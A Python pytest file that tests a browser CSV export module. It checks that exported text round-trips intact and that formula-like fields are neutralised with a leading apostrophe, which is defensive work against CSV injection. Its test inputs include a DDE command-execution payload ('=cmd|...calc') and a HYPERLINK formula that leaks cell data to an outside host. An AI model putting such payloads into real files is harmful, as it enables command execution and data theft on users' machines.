"""CSV: every text comes back, and no spreadsheet runs one."""

from __future__ import annotations

import csv
import io
import shutil
from collections.abc import Callable, Iterator
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from playwright.sync_api import Browser

from bench.browser import served
from tests.conftest import ROOT

Call = Callable[..., Any]
Rows = list[list[str]]

#: A formula begins with one of these, in some spreadsheet or other.
RISKY = tuple("=+-@\t\r\n\0＝＋－＠")


@pytest.fixture(scope="module")
def csv_of(browser: Browser, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Call]:
    """The CSV text of each of several lists of rows."""
    folder = tmp_path_factory.mktemp("modules")
    shutil.copy(ROOT / "generator" / "coproduction" / "browser" / "csv.js", folder)
    (folder / "index.html").write_text("<!doctype html><title>Empty</title>", "utf-8")
    with served(folder) as address:
        page = browser.new_page()
        page.goto(address)
        yield lambda *many: page.evaluate("async (many) => { const { csv } = await import('/csv.js'); return many.map(csv); }", list(many))
        page.close()


def read(text: str) -> Rows:
    """As a spreadsheet that knows the byte order mark reads it."""
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), strict=True))


def test_the_whole_text(csv_of: Call) -> None:
    rows = [
        ["Question", "Answer", "Note"],
        ["Do I know who decides?", "Not at all", 'She said: "the board", \r\nthen left.'],
        ["المال", "", "=1+1"],
        [],
    ]
    assert csv_of(rows) == [
        '\ufeff"Question","Answer","Note"\r\n'
        '"Do I know who decides?","Not at all","She said: ""the board"", \r\nthen left."\r\n'
        '"المال","","\'=1+1"\r\n'
        "\r\n"
    ]
    assert csv_of([]) == ["\ufeff"]


@pytest.mark.parametrize(
    "formula",
    [
        "=HYPERLINK(\"http://example.org?\"&A1)", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\0=1", "＝1", "＋1", "－1", "＠A1",
        "=", "-", "=\"\"", "=cmd|' /C calc'!A0", "-- a list", "+44 20 7946 0000",
    ],
)  # fmt: skip
def test_nothing_begins_like_a_formula(csv_of: Call, formula: str) -> None:
    (text,) = csv_of([[formula, "x" + formula, '"' + formula]])
    assert read(text) == [["'" + formula, "x" + formula, '"' + formula]]


@settings(max_examples=60)
@given(many=st.lists(st.lists(st.lists(st.text(st.characters(exclude_categories=["Cs"]) | st.sampled_from([*RISKY, '"', ",", ";", "'"])), min_size=1), max_size=5), max_size=10))  # fmt: skip
def test_every_text_comes_back(csv_of: Call, many: list[Rows]) -> None:
    for rows, text in zip(many, csv_of(*many), strict=True):
        assert text.startswith("\ufeff")
        assert read(text) == [["'" + field if field.startswith(RISKY) else field for field in row] for row in rows]
